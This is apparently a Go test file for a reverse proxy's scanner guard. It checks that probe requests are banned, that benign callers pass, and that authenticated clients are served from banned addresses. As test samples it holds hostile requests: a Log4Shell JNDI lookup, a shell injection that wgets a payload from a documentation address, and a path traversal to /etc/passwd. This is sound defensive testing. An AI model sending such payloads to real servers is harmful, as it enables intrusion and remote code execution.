package proxy

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pires/go-proxyproto"

	"postern/internal/guard"
	"postern/internal/upstream"
)

// corpus reads one of the guard's lists: an entry a line, # begins a comment.
func corpus(t testing.TB, name string) []string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "guard", "testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for line := range strings.Lines(string(data)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && line[0] != '#' {
			all = append(all, line)
		}
	}
	return all
}

// fresh is the i-th of many public addresses, each in a neighbourhood of its
// own.
func fresh(i int) netip.Addr {
	var b [4]byte
	binary.BigEndian.PutUint32(b[:], 0x0b00_0001+uint32(i)<<8)
	return netip.AddrFrom4(b)
}

// refusedFirst sends one request of the client, behind a trusted proxy, and
// reports whether it was cut off without a byte.
func refusedFirst(t testing.TB, r *rig, client netip.Addr, head string) bool {
	t.Helper()
	c := r.dial()
	defer c.Close()
	send(t, c, head+"X-Forwarded-For: "+client.String()+"\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n")
	got, _ := ended(t, c)
	return got == ""
}

// TestScannersFirstRequest: each request of the corpus comes from an address
// nobody has seen, is refused, bans its sender, and does not reach the backend:
// by our name where no route takes it, by our bare address, and on an open
// route that takes everything.
func TestScannersFirstRequest(t *testing.T) {
	var reached atomic.Int64
	target := backend(t, func(http.ResponseWriter, *http.Request) { reached.Add(1) })
	closed := proxyTo(t, target)
	closed.Routes[0].Pattern = "/service/*"
	open := proxyTo(t, target)
	open.hosts, open.Routes[0].Open = []string{"open.test"}, true
	r := start(t, options{trusted: loopback, limits: quick(patience), sites: []testSite{closed, open}})
	n := 0
	for _, line := range corpus(t, "scanner.txt") {
		family, target, _ := strings.Cut(line, " ")
		if !strings.HasPrefix(target, "/") || strings.ContainsAny(target, " \x00") || strings.Contains(target, "%%") { // no HTTP: answered 400
			continue
		}
		for _, host := range []string{"a.test", "192.0.2.10", "open.test"} {
			n++
			who := fresh(n)
			if !refusedFirst(t, r, who, "GET "+target+" HTTP/1.1\r\nHost: "+host+"\r\n") {
				t.Errorf("%s at %s: %s was answered", family, host, target)
			}
			if !r.guard.Banned(who, time.Now()) {
				t.Errorf("%s at %s: %s is no ban", family, host, target)
			}
		}
	}
	for _, head := range []string{ // what is never legitimate
		"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n",
		"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n",
		"GET /../../etc/passwd HTTP/1.1\r\nHost: a.test\r\n",
		"GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: open.test\r\n",
		"GET /shell?cd+/tmp;wget+192.0.2.1/x HTTP/1.1\r\nHost: 192.0.2.10\r\n",
	} {
		n++
		if who := fresh(n); !refusedFirst(t, r, who, head) || !r.guard.Banned(who, time.Now()) {
			t.Errorf("%q is no ban: %+v", head, r.guard.Why(who, time.Now()).Exhibits)
		}
	}
	if got := reached.Load(); got != 0 {
		t.Errorf("%d requests reached the backend, want 0", got)
	}
	if got := r.metric("postern_guard_stops_total", "layer", "signature"); got == 0 && r.metric("postern_guard_stops_total") != 0 {
		t.Error("nothing counted at the layer of signatures")
	}
	t.Logf("%d scanner requests, each refused at once, 0 at the backend", n)
}

// TestJunkFirstBytes: what is no web client at all, each from an address of
// its own, by its first bytes.
func TestJunkFirstBytes(t *testing.T) {
	r := start(t, options{trusted: loopback, limits: quick(patience)})
	for i, junk := range []string{
		"SSH-2.0-Go\r\n", "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "\x05\x01\x00", "\x04\x01\x00\x50\xc0\x00\x02\x01\x00",
		"MGLNDD_192.0.2.1_80\n", "\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00", "\x00\x00\x00\x40\xfeSMB", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "t3 12.1.2\n", "JRMI\x00\x02K", "\x01\x02\x03\x04\x05\x06\x07\x08",
	} {
		for j, addr := range []string{r.clear, r.secure} {
			who := fresh(1000 + 2*i + j)
			c := dialTCP(t, addr)
			h := proxyproto.HeaderProxyFromAddrs(2, net.TCPAddrFromAddrPort(netip.AddrPortFrom(who, 1)), &net.TCPAddr{IP: net.IPv4(192, 0, 2, 2), Port: 2})
			b, err := h.Format()
			if err != nil {
				t.Fatal(err)
			}
			send(t, c, string(b)+junk)
			if got, _ := ended(t, c); got != "" {
				t.Errorf("%q got %q", junk, got)
			}
			wait(t, "the ban for "+junk, func() bool { return r.guard.Banned(who, time.Now()) })
		}
	}
}

// benignRequest is one request of somebody who may ask, and what must not
// become of it: a cut, a ban, a 429.
type benignRequest struct {
	from netip.Addr
	head string
}

// benign makes n requests of many kinds of callers: functions that change
// their address with each call and some that do not, with every User-Agent,
// webhooks, browsers with all their assets, monitors, self-hosted apps.
func benign(t testing.TB, n int) []benignRequest {
	agents := corpus(t, "agents.txt")
	paths := map[string][]string{}
	for _, line := range corpus(t, "benign.txt") {
		kind, target, _ := strings.Cut(line, " ")
		if !strings.Contains(target, "..") { // the backend reads those in two ways: answered 400
			paths[kind] = append(paths[kind], target)
		}
	}
	credentials := []string{
		"", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln\r\n", "X-Api-Key: k-0123456789abcdef\r\n",
		"Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260301/eu-west-1/execute-api/aws4_request, SignedHeaders=host;x-amz-date, Signature=00\r\nX-Amz-Date: 20260301T000000Z\r\n",
		"X-Hub-Signature-256: sha256=00\r\nX-GitHub-Event: push\r\nX-GitHub-Delivery: 72d3162e-cc78-11e3-81ab-4c9367dc0958\r\n",
		"Stripe-Signature: t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd\r\n",
	}
	bodies := []string{"", `{"query":"{ viewer { login } }"}`, `{"action":"opened","number":1,"html_url":"https://example.org/../x"}`, "a=1&b=%2Fetc"}
	out := make([]benignRequest, 0, n)
	for i := range n {
		r := benignRequest{from: fresh(100_000 + i)} // a function: a new address each time
		if i%3 == 0 {
			r.from = fresh(90_000 + i%40) // callers that stay where they are
		}
		kind, host := "plain", "a.test"
		switch i % 5 {
		case 3:
			kind, host = "route", "apps.test"
		case 4:
			kind = "unasked"
		}
		target := paths[kind][i/5%len(paths[kind])]
		method, body := "GET", ""
		if i%4 == 1 && kind == "plain" {
			method, body = "POST", bodies[i/4%len(bodies)]
		}
		var h strings.Builder
		fmt.Fprintf(&h, "%s %s HTTP/1.1\r\nHost: %s\r\nX-Forwarded-For: %s\r\n", method, target, host, r.from)
		if ua := agents[i%len(agents)]; ua != "-" {
			fmt.Fprintf(&h, "User-Agent: %s\r\n", ua)
		}
		h.WriteString(credentials[i/7%len(credentials)])
		if i%11 == 0 {
			h.WriteString("Accept: text/event-stream\r\nCache-Control: no-cache\r\n")
		}
		if method == "POST" {
			fmt.Fprintf(&h, "Content-Type: application/json\r\nContent-Length: %d\r\n", len(body))
		}
		r.head = h.String() + "\r\n" + body
		out = append(out, r)
	}
	return out
}

// TestBenignCallers: none of 30,000 requests is refused, nobody is banned, and
// half of them come from addresses of AWS.
func TestBenignCallers(t *testing.T) {
	n := 30_500
	if underRace {
		n = 4_000
	}
	target := backend(t, func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/favicon"), strings.HasPrefix(r.URL.Path, "/apple-touch"):
			w.WriteHeader(http.StatusNotFound)
		case r.Header.Get("X-Api-Key") != "" && len(r.URL.Path)%7 == 0: // a mistake now and then
			w.WriteHeader(http.StatusUnauthorized)
		default:
			_, _ = io.WriteString(w, "ok")
		}
	})
	site := proxyTo(t, target)
	apps := proxyTo(t, target)
	apps.hosts = []string{"apps.test"}
	apps.Routes = appRoutes(t, target)
	r := start(t, options{trusted: loopback, limits: quick(patience), sites: []testSite{site, apps}})
	r.guard.SetShared(func(a netip.Addr) bool { return a.As4()[2]%2 == 0 })
	requests := benign(t, n)
	const lanes = 4
	var all sync.WaitGroup
	var refused atomic.Int64
	for lane := range lanes {
		all.Go(func() { benignLane(t, r, slices.Collect(every(requests, lane, lanes)), &refused) })
	}
	all.Wait()
	if got := refused.Load(); got != 0 {
		t.Errorf("%d of %d benign requests were refused, want 0", got, n)
	}
	if bans := r.guard.Bans(time.Now()); len(bans) != 0 {
		t.Errorf("banned: %+v", bans)
	}
	t.Logf("%d benign requests, 0 refused: at most 1 in %d is with 95 %% confidence", n, n/3)
}

// every yields each lanes-th element, from the lane-th on.
func every(all []benignRequest, lane, lanes int) func(func(benignRequest) bool) {
	return func(yield func(benignRequest) bool) {
		for i := lane; i < len(all); i += lanes {
			if !yield(all[i]) {
				return
			}
		}
	}
}

// benignLane asks on one connection for as long as it lives, and counts what
// is refused.
func benignLane(t *testing.T, r *rig, requests []benignRequest, refused *atomic.Int64) {
	c, err := net.Dial("tcp", r.clear)
	if err != nil {
		t.Error(err)
		return
	}
	defer c.Close()
	br := bufio.NewReader(c)
	for _, req := range requests {
		_ = c.SetDeadline(time.Now().Add(patience))
		if _, err := io.WriteString(c, req.head); err != nil {
			t.Errorf("%q: %v", req.head, err)
			refused.Add(1)
			return
		}
		res, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Errorf("%q: %v", req.head, err)
			refused.Add(1)
			return
		}
		_, _ = io.Copy(io.Discard, res.Body)
		_ = res.Body.Close()
		switch res.StatusCode {
		case 200, 401, 404:
		default:
			t.Errorf("%q: %d", req.head, res.StatusCode)
			refused.Add(1)
		}
		if res.Close {
			t.Errorf("%q: the connection is closed", req.head)
			return
		}
	}
}

// appRoutes are the routes people write for what they host themselves.
func appRoutes(t testing.TB, target string) []Route {
	p := pool(t, upstream.Config{Idle: 4 * time.Second}, target)
	var routes []Route
	for _, pattern := range []string{
		"/remote.php/*", "/ocs/*", "/status.php", "/index.php/*", "/core/*", "/jane/*", "/user/*", "/wp-login.php", "/wp-admin/*",
		"/wp-json/*", "/wp-content/*", "/wp-includes/*", "/wp-cron.php", "/xmlrpc.php", "/solr/*", "/jenkins/*", "/api/*", "/d/*",
		"/actuator/health", "/manager/*", "/phpmyadmin/*", "/zm/*",
	} {
		routes = append(routes, Route{Pattern: pattern, Upstream: p})
	}
	return routes
}

// TestCallersFromBadAddresses: a caller that proves who it is is served from a
// banned address and from a banned one of AWS; a stranger from there is not.
func TestCallersFromBadAddresses(t *testing.T) {
	r := callerRig(t, options{trusted: loopback})
	aws := fresh(7)
	r.guard.SetShared(func(a netip.Addr) bool { return a == aws })
	for _, who := range []netip.Addr{aws, fresh(8)} {
		now := time.Now()
		r.guard.Report(who, guard.Scanner, guard.Evidence{Rule: "dotenv"}, now)
		if !r.guard.Banned(who, now) {
			t.Fatalf("%s is not banned", who)
		}
		if !refusedFirst(t, r, who, "GET / HTTP/1.1\r\nHost: a.test\r\n") {
			t.Errorf("%s: a stranger is served", who)
		}
		for i := range 300 {
			c := r.dial()
			send(t, c, "GET /orders/1 HTTP/1.1\r\nHost: a.test\r\nX-Forwarded-For: "+who.String()+"\r\nX-Api-Key: "+ordersKey+"\r\nConnection: close\r\n\r\n")
			if got, _ := ended(t, c); !strings.HasPrefix(got, "HTTP/1.1 200 ") {
				t.Fatalf("%s: request %d of a caller: %.100q", who, i, got)
			}
			_ = c.Close()
		}
		if !r.guard.Trusted(who, time.Now()) {
			t.Errorf("%s is not known as a caller's", who)
		}
	}
}
